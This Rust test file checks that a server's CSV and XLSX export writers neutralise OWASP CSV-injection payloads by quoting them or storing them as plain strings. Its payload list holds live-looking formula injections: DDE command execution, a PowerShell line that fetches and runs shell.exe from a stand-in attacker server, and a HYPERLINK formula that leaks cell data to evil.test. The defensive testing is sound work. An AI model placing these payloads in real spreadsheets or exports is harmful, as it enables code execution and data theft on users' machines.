//! The export writers on the OWASP CSV-injection payloads, tab and carriage return included
//! (which a case title cannot hold): the CSV parses back to each payload behind a single quote,
//! and a real XLSX reader (calamine) finds each as a string cell equal to the payload, no
//! formula; numbers stay numbers.

use std::io::Cursor;

use calamine::{Data, Reader};
use futures_util::StreamExt;

use casebook_server::actions::reporting::exports::{Cell, Format, Table};
use casebook_server::edge::export::response;

/// OWASP's CSV-injection examples and the triggers it names.
const PAYLOADS: [&str; 14] = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=HYPERLINK(\"http://evil.test?leak=\"&A1&A2,\"Error: please click for further information\")",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "=1+2\";=1+2",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
];

fn table() -> Table {
    let rows = PAYLOADS
        .iter()
        .map(|p| vec![Cell::Text((*p).to_owned()), Cell::Integer(-5)])
        .collect();
    Table {
        name: "payloads".into(),
        headers: vec!["=text".into(), "number".into()],
        batches: futures_util::stream::iter([Ok(rows)]).boxed(),
    }
}

async fn bytes(format: Format) -> Vec<u8> {
    let body = response(table(), format, "test").unwrap().into_body();
    axum::body::to_bytes(body, usize::MAX)
        .await
        .unwrap()
        .to_vec()
}

#[tokio::test]
async fn csv_quotes_every_payload() {
    let bytes = bytes(Format::Csv).await;
    let text = std::str::from_utf8(&bytes).unwrap();
    let text = text.strip_prefix('\u{feff}').unwrap();
    let records: Vec<csv::StringRecord> = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(Result::unwrap)
        .collect();
    assert_eq!(&records[0][0], "'=text");
    assert_eq!(records.len(), PAYLOADS.len() + 1);
    for (record, payload) in records[1..].iter().zip(PAYLOADS) {
        assert_eq!(&record[0], format!("'{payload}"));
        assert_eq!(&record[1], "-5", "numbers are numbers");
    }
}

#[tokio::test]
async fn xlsx_keeps_every_payload_a_string() {
    let bytes = bytes(Format::Xlsx).await;
    let mut book = calamine::Xlsx::new(Cursor::new(bytes)).unwrap();
    let sheet = book.worksheet_range("payloads").unwrap();
    assert_eq!(sheet.get((0, 0)), Some(&Data::String("=text".into())));
    for (i, payload) in PAYLOADS.iter().enumerate() {
        assert_eq!(
            sheet.get((i + 1, 0)),
            Some(&Data::String((*payload).to_owned())),
            "row {i}"
        );
        assert_eq!(sheet.get((i + 1, 1)), Some(&Data::Float(-5.0)));
    }
    let formulas = book.worksheet_formula("payloads").unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()));
}
